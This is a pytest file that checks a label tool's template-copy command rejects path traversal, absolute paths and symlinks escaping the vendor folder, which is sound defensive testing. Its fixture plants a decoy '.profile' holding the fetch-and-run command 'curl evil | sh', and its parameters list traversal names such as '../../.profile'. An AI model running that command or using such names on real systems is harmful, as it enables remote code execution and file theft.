"""Names in files that others wrote become paths only inside the folder of that file."""

from __future__ import annotations

import shutil
from pathlib import Path

import pytest

from bss_mfg.core.named_paths import path_inside
from bss_mfg.errors import InputError
from bss_mfg.label.template.loading import load_template
from tests.helpers import ROOT
from tests.helpers.factory import Factory, tree

TEMPLATE = (ROOT / "templates" / "retail-letter-10.toml").read_text()


@pytest.fixture
def vendor(factory: Factory, tmp_path: Path) -> Path:
    """What a vendor's ZIP unpacks to: a folder with a template, and what it would like to be copied beside it."""
    folder = tmp_path / "zip" / "deep" / "label"
    folder.mkdir(parents=True)
    shutil.copy(ROOT / "templates" / "bulb.svg", folder)
    (tmp_path / "zip" / ".profile").write_text("curl evil | sh")
    (tmp_path / "zip" / "deep" / "specs").mkdir()
    (tmp_path / "zip" / "deep" / "specs" / "mine.toml").write_text("x = 1")
    return folder


def write(folder: Path, name: str) -> Path:
    path = folder / "nice.toml"
    path.write_text(TEMPLATE.replace('file = "bulb.svg"', f'file = "{name}"'))
    return path


@pytest.mark.parametrize("name", ["../../.profile", "../specs/mine.toml", "..", "a/../../../.profile", "./../x"])
def test_a_template_is_copied_into_templates_only(factory: Factory, vendor: Path, name: str) -> None:
    before = tree(factory.root.parent)
    path = write(vendor, name)
    done = factory.cli("template", "copy", path, "nice")
    assert done.code == 3, done.err
    assert "nice.toml" in done.err
    path.unlink()
    assert tree(factory.root.parent) == before


def test_fonts_and_absolute_names(factory: Factory, vendor: Path) -> None:
    secret = vendor.parents[1] / ".profile"
    for text in (f'[fonts]\nbrand = "{secret}"\n', '[fonts]\nbrand = "../../.profile"\n', 'fonts = "x"\n'):
        path = vendor / "font.toml"
        path.write_text(text)
        assert factory.cli("template", "copy", path, "font").code == (0 if text.startswith("fonts") else 3)


def test_a_link_out_of_the_folder_is_not_followed(factory: Factory, vendor: Path) -> None:
    (vendor / "art.svg").symlink_to(vendor.parents[1] / ".profile")
    path = write(vendor, "art.svg")
    assert factory.cli("template", "copy", path, "nice").code == 3
    assert not (factory.root / "templates" / "nice.toml").exists()
    with pytest.raises(InputError, match="symbolic link"):
        load_template(path)


def test_a_link_in_templates_is_not_followed_either(factory: Factory, vendor: Path, tmp_path: Path) -> None:
    (tmp_path / "outside").mkdir()
    (factory.root / "templates" / "art").symlink_to(tmp_path / "outside")
    (vendor / "art").mkdir()
    shutil.copy(vendor / "bulb.svg", vendor / "art")
    assert factory.cli("template", "copy", write(vendor, "art/bulb.svg"), "nice").code == 3
    assert list((tmp_path / "outside").iterdir()) == []


def test_folders_inside_are_copied(factory: Factory, vendor: Path) -> None:
    (vendor / "art").mkdir()
    (vendor / "bulb.svg").rename(vendor / "art" / "bulb.svg")
    done = factory.cli("template", "copy", write(vendor, "art/bulb.svg"), "nice")
    assert done.code == 0, done.err
    assert (factory.root / "templates" / "art" / "bulb.svg").is_file()


def test_other_artwork_of_the_same_name_is_in_the_way(factory: Factory, vendor: Path) -> None:
    (factory.root / "templates" / "bulb.svg").write_text("<svg/>")
    done = factory.cli("template", "copy", write(vendor, "bulb.svg"), "nice")
    assert done.code == 4
    assert "bulb.svg" in done.err
    assert not (factory.root / "templates" / "nice.toml").exists()


def test_a_products_key_is_beside_it(factory: Factory, tmp_path: Path) -> None:
    factory.add()
    key = factory.root / "products" / "bulb.pem"
    key.rename(tmp_path / "elsewhere.pem")
    key.symlink_to(tmp_path / "elsewhere.pem")
    done = factory.cli("product", "show", "bulb")
    assert done.code == 3
    assert "bulb.toml" in done.err


@pytest.mark.parametrize("name", ["a.svg", "art/a.svg", "a b.svg", "a..svg"])
def test_what_may_be_named(tmp_path: Path, name: str) -> None:
    assert path_inside(tmp_path, name, "file", "x") == tmp_path / name


@pytest.mark.parametrize(
    "name", ["", ".", "..", "/a", "a/", "//a", "a//b", "a\\b", "C:a", "a\0b", "a\nb", "../x", "a/.."]
)
def test_what_may_not(tmp_path: Path, name: str) -> None:
    with pytest.raises(InputError):
        path_inside(tmp_path, name, "file", "x")
